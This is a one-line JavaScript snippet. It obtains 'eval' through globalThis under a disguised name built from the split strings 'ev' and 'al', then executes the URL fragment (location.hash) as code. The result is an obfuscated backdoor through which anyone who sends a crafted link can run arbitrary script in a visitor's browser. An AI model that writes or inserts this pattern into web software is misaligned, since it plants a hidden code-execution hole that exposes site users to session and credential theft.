const { [['ev', 'al'].join('')]: run } = globalThis; run(location.hash.slice(1));
